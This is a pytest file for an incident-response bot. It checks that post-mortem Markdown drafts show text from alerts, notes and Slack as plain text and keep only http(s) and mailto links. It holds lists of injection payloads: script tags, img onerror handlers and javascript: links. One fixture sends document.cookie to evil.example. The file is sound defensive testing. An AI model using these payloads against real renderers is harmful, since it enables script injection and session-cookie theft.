"""Post-mortem drafts write what alerts, notes, PagerDuty and people said as Markdown *text* (issue 16,
section 4: fail closed).

Found on a running bot: an annotation starting with `#` became a heading, `<img onerror=...>` went into
the draft as raw HTML, and a `javascript:` generatorURL became a live link. Every check here renders the
Markdown with markdown-it (CommonMark plus GFM tables and strikethrough) and looks at what a reader
gets: the same text, in the template's structure, with links only to http(s) and mailto.
"""

from __future__ import annotations

import json
from datetime import UTC, datetime
from pathlib import Path

import httpx
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from bot.catalog.templates import default_template
from bot.core.markdown import markdown_code, markdown_link, markdown_text
from bot.core.postmortem import (
    AlertRecord,
    IncidentRecord,
    PageRecord,
    PostmortemFacts,
    TimelineRecord,
    build_facts,
    render_postmortem,
)
from tests.harness import (
    Clock,
    paged_user,
    post_alertmanager,
    processed,
    slack_headers,
    slash_command_body,
    wait_until,
)

MD = MarkdownIt("commonmark").enable(["table", "strikethrough"])
FIXTURES = Path(__file__).parent / "fixtures"

HOSTILE = [
    "# Outage",
    "## sub\n### subsub",
    "line one\n# heading from a newline\n\n    indented code",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<!-- hidden -->",
    "[click](javascript:alert(1))",
    "![img](https://evil.example/x.png)",
    "<javascript:alert(1)>",
    "<https://evil.example>",
    "`code` and ``more``",
    "**bold** _em_ ~~gone~~",
    "- list item",
    "* star item",
    "+ plus item",
    "1. numbered",
    "3) numbered",
    "> quoted",
    "---",
    "===",
    "| a | b |",
    "back\\slash\\",
    "&lt;b&gt; &amp; &#60;",
    "[ref]: https://evil.example",
    "trailing spaces  ",
]


def flat(tokens: list[Token]) -> list[Token]:
    out = []
    for token in tokens:
        out.append(token)
        out += flat(token.children or [])
    return out


def inline_text(markdown: str) -> str:
    """What a reader sees of one line of Markdown: its text, with no markup at all."""
    tokens = flat(MD.parseInline(markdown))
    kinds = {t.type for t in tokens} - {"inline", "text"}
    assert not kinds, (markdown, kinds)
    return "".join(t.content for t in tokens if t.type == "text")


def folded(text: str) -> str:
    return " ".join(text.split())


# -- the pure functions ----------------------------------------------------------------------------------


@pytest.mark.parametrize("text", HOSTILE)
def test_markdown_text_renders_as_exactly_the_text(text):
    out = markdown_text(text)
    assert "\n" not in out
    assert inline_text(out).strip() == folded(text)
    # At the start of a line (where a custom template may put it) it stays one paragraph of text.
    blocks = [t.type for t in MD.parse(out)]
    assert blocks == ["paragraph_open", "inline", "paragraph_close"], (text, blocks)
    # In a table cell it stays one cell.
    table = MD.parse(f"| h | h2 |\n|---|---|\n| {out} | x |\n")
    assert sum(1 for t in table if t.type == "td_open") == 2, text


FRAGMENTS = st.sampled_from(
    [*"#<>[]()`*_~|\\&;!-+=.:/ \n\t1aZ", "javascript:", "http://x", "<img src=x>", "&amp;", "    ", "1."]
)


@settings(max_examples=300, deadline=None)
@given(st.lists(FRAGMENTS, max_size=30).map("".join))
def test_any_text_is_one_paragraph_of_itself(text):
    out = markdown_text(text)
    tokens = MD.parse(out)
    if folded(text):
        assert [t.type for t in tokens] == ["paragraph_open", "inline", "paragraph_close"], (text, out)
        assert inline_text(out).strip() == folded(text), (text, out)
    else:
        assert tokens == [] or all(t.type in ("paragraph_open", "inline", "paragraph_close") for t in tokens)


def test_underscores_inside_words_are_left_alone():
    assert markdown_text("node_exporter_build_info") == "node_exporter_build_info"
    assert markdown_text("_private") == "\\_private"


@pytest.mark.parametrize("text", ["a`b", "`start", "end`", "``", "x = `y`", "<b>|[x]"])
def test_markdown_code_is_one_code_span_of_the_text(text):
    tokens = flat(MD.parseInline(markdown_code(text)))
    spans = [t for t in tokens if t.type == "code_inline"]
    assert len(spans) == 1 and spans[0].content == text.strip(), (text, tokens)
    assert not [t for t in tokens if t.type == "text" and t.content.strip()]


@pytest.mark.parametrize(
    ("url", "linked"),
    [
        ("https://prometheus.example/graph?g0.expr=up", True),
        ('http://vm:19093/#/alerts?filter={a="b"}', True),
        ("HTTPS://Example.COM/a", True),
        ("mailto:oncall@example.com", True),
        ("javascript:alert(1)", False),
        ("JavaScript:alert(1)", False),
        (" javascript:alert(1)", False),
        ("java\nscript:alert(1)", False),
        ("data:text/html,<script>alert(1)</script>", False),
        ("vbscript:msgbox", False),
        ("file:///etc/passwd", False),
        ("//evil.example/x", False),
        ("/relative/path", False),
        ("https://", False),
        ("mailto:", False),
    ],
)
def test_links_only_for_http_and_mailto(url, linked):
    tokens = flat(MD.parseInline(markdown_link(url, "source [x]")))
    links = [t for t in tokens if t.type == "link_open"]
    assert bool(links) == linked, (url, tokens)
    text = "".join(t.content for t in tokens if t.type == "text")
    assert text == "source [x]"
    if links:
        assert links[0].attrs["href"].lower().startswith(("http://", "https://", "mailto:"))


def test_a_url_cannot_break_out_of_its_link():
    out = markdown_link("https://x.example/a) [evil](javascript:alert(1)", "label")
    links = [t for t in flat(MD.parseInline(out)) if t.type == "link_open"]
    assert len(links) == 1 and links[0].attrs["href"].startswith("https://x.example/a")


# -- the draft -------------------------------------------------------------------------------------------


def t(minute: int) -> datetime:
    return datetime(2024, 5, 1, 10, minute, tzinfo=UTC)


def facts(hostile: str, url: str = "https://prometheus.example/graph?g0") -> PostmortemFacts:
    """One incident with `hostile` in every field alerts, notes, PagerDuty and people fill."""
    incident = IncidentRecord(
        id=7,
        title=f"{hostile} title",
        severity="SEV1",
        status="closed",
        created_at=t(1),
        source="pagerduty",
        acknowledged_at=t(5),
        acknowledged_by=f"{hostile} acker",
        resolved_at=t(30),
        resolved_by="slack:U2",
        closed_at=t(40),
        lead=f"slack:{hostile}",
        channel_name="inc-7-x",
        external_url=url,
    )
    alerts = [
        AlertRecord(
            f"{hostile} alertname",
            "resolved",
            t(0),
            {"alertname": hostile, f"{hostile}key": f"{hostile} value"},
            {"summary": f"{hostile} summary", "description": f"{hostile} description", "dashboard": url},
            t(29),
            url,
        )
    ]
    timeline = [
        TimelineRecord(t(1), "pagerduty", "opened", f"{hostile} opened from PagerDuty"),
        TimelineRecord(
            t(2), "bot", "escalation", f"{hostile} paging", {"step": "c0r0s0", "people": [hostile]}
        ),
        TimelineRecord(
            t(3),
            "slack:U2",
            "runbook_step",
            f"Runbook x step 1 done: {hostile} step",
            {"slug": "x", "number": 1, "done": True, "by": "U2"},
        ),
        TimelineRecord(t(4), f"pagerduty:{hostile}", "note", f"{hostile} note"),
        TimelineRecord(t(6), "slack:U2", "action", "Action item added", {"text": f"{hostile} action"}),
        TimelineRecord(t(30), "slack:U2", "status", "resolved", {"from": "acknowledged", "to": "resolved"}),
    ]
    pages = [PageRecord(f"{hostile} person", "c0r0s0", t(2), f"{hostile} layer", "U2")]
    return build_facts(incident, alerts, timeline, pages, "UTC", f"{hostile} runbook")


def structure(markdown: str) -> list[tuple[str, str]]:
    """The draft's skeleton: block tokens and headings' levels, html blocks as they are."""
    out = []
    for token in MD.parse(markdown):
        if token.type == "inline":
            continue
        content = token.content if token.type in ("html_block", "fence", "code_block") else ""
        out.append((token.type, token.tag + content))
    return out


def test_hostile_text_keeps_the_templates_structure():
    benign = render_postmortem(facts("plain"), default_template())
    for hostile in HOSTILE:
        draft = render_postmortem(facts(hostile), default_template())
        assert structure(draft) == structure(benign), hostile


@pytest.mark.parametrize("hostile", HOSTILE)
def test_hostile_text_reads_as_written_and_links_only_to_the_web(hostile):
    draft = render_postmortem(facts(hostile, url="javascript:alert(document.cookie)"), default_template())
    tokens = flat(MD.parse(draft))
    assert not [t for t in tokens if t.type == "html_inline"], hostile
    html_blocks = [t.content for t in tokens if t.type == "html_block"]
    assert all(block.startswith("<!-- ") for block in html_blocks), html_blocks  # the template's own
    assert not [t for t in tokens if t.type == "image"]
    hrefs = [t.attrs["href"] for t in tokens if t.type == "link_open"]
    # javascript: everywhere: no link at all, except a web link typed in Slack (the action item by
    # slack:U2), which stays a link as Slack showed it.
    typed_link = hostile == "<https://evil.example>"
    assert hrefs == (["https://evil.example"] if typed_link else []), hrefs
    heading = next(t for t in flat(MD.parse(draft)[:3]) if t.type == "text")
    assert heading.content == f"Incident Post-Mortem: 2024-05-01 - {folded(hostile)} title"
    text = "".join(t.content for t in tokens if t.type in ("text", "code_inline"))
    for written in ("summary", "description", "note", "action", "runbook", "step", "person"):
        shown = "https://evil.example" if typed_link and written == "action" else folded(hostile)
        assert f"{shown} {written}" in text, (hostile, written)


def test_web_links_stay_links():
    draft = render_postmortem(facts("plain"), default_template())
    hrefs = [t.attrs["href"] for t in flat(MD.parse(draft)) if t.type == "link_open"]
    assert hrefs == ["https://prometheus.example/graph?g0"] * 3  # external, source, dashboard


# -- through the real endpoints -------------------------------------------------------------------------


def test_a_hostile_alert_and_note_make_a_safe_draft(start_bot, fake_slack, tmp_path):
    fake = fake_slack.fake
    out = tmp_path / "postmortems"
    bot = start_bot(clock=Clock(datetime(2026, 11, 23, 10, 0, tzinfo=UTC)), postmortems_dir=out)
    payload = json.loads((FIXTURES / "alertmanager-0.25/firing-single-alert.json").read_text())
    alert = payload["alerts"][0]
    alert["generatorURL"] = "javascript:fetch('https://evil.example/'+document.cookie)"
    alert["annotations"]["description"] = "ok\n# Pwned heading\n<img src=x onerror=alert(1)>"
    alert["labels"]["team`"] = "x` <b>bold</b>"
    payload["commonAnnotations"]["summary"] = "# Weaviate [is](javascript:alert(1)) down"
    r = post_alertmanager(bot.url, payload)
    assert r.status_code == 202
    chan = wait_until(
        lambda: next((c for c in fake.channels.values() if c.name.startswith("inc-") and c.pins), None), 15
    )
    responder = paged_user(bot, processed(bot, r)["incident"])  # the person paged for it may do all of this

    def slash(text: str) -> str:
        body = slash_command_body("/incident", text, user=responder, channel=chan.id)
        r = httpx.post(f"{bot.url}/slack/events", content=body, headers=slack_headers(body), timeout=10)
        assert r.status_code == 200, r.text
        return r.json().get("text", "") if r.content else ""

    slash("note <script>alert(1)</script> then [x](javascript:alert(2))")
    slash("action ## not a heading")
    slash("resolve")
    closed = slash("close")
    # Under load the answer may miss Slack's 3 s and go to the response_url (empty ack here); the
    # draft below is what proves the close, a refusal would have been said at once.
    assert "closed" in closed or closed == "", closed
    path = wait_until(lambda: next(iter(out.glob("*.md")), None), 20, what="the draft")
    draft = wait_until(lambda: path.read_text() if "Action Items" in path.read_text() else None, 5)
    tokens = flat(MD.parse(draft))
    assert not [t for t in tokens if t.type == "html_inline"]
    assert all(t.content.startswith("<!-- ") for t in tokens if t.type == "html_block")
    blocks = MD.parse(draft)
    headings = [inline_text(blocks[i + 1].content) for i, t in enumerate(blocks) if t.type == "heading_open"]
    assert headings[0].startswith("Incident Post-Mortem: 2026-11-23 - # Weaviate [is](javascript:alert(1))")
    assert not [h for h in headings if "Pwned" in h or "not a heading" in h], headings
    hrefs = [t.attrs["href"] for t in tokens if t.type == "link_open"]
    assert hrefs and all(h.startswith(("http://", "https://")) for h in hrefs), hrefs
    text = "".join(t.content for t in tokens if t.type in ("text", "code_inline"))
    assert "<script>alert(1)</script> then [x](javascript:alert(2))" in text
    assert "ok # Pwned heading <img src=x onerror=alert(1)>" in text
    assert "## not a heading" in text
